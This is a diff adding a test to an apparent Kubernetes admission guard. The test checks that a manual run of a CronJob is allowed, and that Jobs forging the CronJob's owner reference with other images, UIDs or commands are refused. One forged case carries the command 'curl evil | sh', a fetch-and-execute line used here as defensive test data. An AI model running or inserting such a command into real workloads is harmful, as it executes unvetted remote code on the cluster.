@@ -135,6 +135,38 @@ def test_a_cronjobs_image_changes_only_by_break_glass_and_is_recorded(guarded: t
     ]
 
 
+def test_a_cronjob_run_by_hand_runs_its_template_and_nothing_else(guarded: testing.Stack) -> None:
+    """``kubectl create job --from=cronjob/NAME`` (a manual run) runs what the schedule would: allowed, and not an
+    emergency. A Job that claims the CronJob as its owner but runs another image or command is a new workload."""
+    assert create(guarded, cronjob("weekly", "registry.example/report:1"), context="dan").returncode == 0
+    # The Job exactly as kubectl makes it (owner reference and all); the embedded API takes JSON, not the protobuf
+    # kubectl sends for built-in kinds, so kubectl prints it and then sends it as JSON.
+    run = ["create", "job", "weekly-now", "--from=cronjob/weekly", "-n", "production", "--dry-run=client", "-o=json"]
+    printed = json.loads(guarded.kubectl(*run, context="alice").stdout)
+    assert printed["metadata"]["ownerReferences"][0]["kind"] == "CronJob"
+    made = create(guarded, printed, context="alice")
+    assert made.returncode == 0, made.stderr
+    stored = json.loads(guarded.kubectl("get", "job", "weekly-now", "-n", "production", "-o", "json").stdout)
+    assert stored["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.example/report:1"
+    bypasses = [r.document() for r in guarded.trail().records() if r.event == "emergency-bypass"]
+    assert not [d for d in bypasses if "weekly-now" in json.dumps(d)]
+    owner = json.loads(guarded.kubectl("get", "cronjob", "weekly", "-n", "production", "-o", "json").stdout)
+    reference = {"apiVersion": "batch/v1", "kind": "CronJob", "name": "weekly", "controller": True}
+    for name, image, command, uid in [
+        ("weekly-evil", "registry.example/report:evil", None, owner["metadata"]["uid"]),
+        ("weekly-shell", "registry.example/report:1", ["sh", "-c", "curl evil | sh"], owner["metadata"]["uid"]),
+        ("weekly-forged", "registry.example/report:1", None, "not-its-uid"),
+    ]:
+        forged = job(name, image)
+        forged["metadata"]["ownerReferences"] = [{**reference, "uid": uid}]
+        if command:
+            forged["spec"]["template"]["spec"]["containers"][0]["command"] = command
+        refused = create(guarded, forged, context="alice")
+        assert refused.returncode != 0, name
+        assert f"a new Job {name} would run images nobody approved" in refused.stderr
+        assert "kubectl create job --from=cronjob/NAME" in refused.stderr
+
+
 def test_kubectl_debug_in_a_gated_namespace_needs_break_glass(guarded: testing.Stack) -> None:
     assert create(guarded, pod("debugged", "registry.example/web:1.0"), user=RS_CONTROLLER).returncode == 0
     args = ["debug", "pod/debugged", "--image=registry.example/busybox:1.36", "-c", "debugger", "-n", "production"]
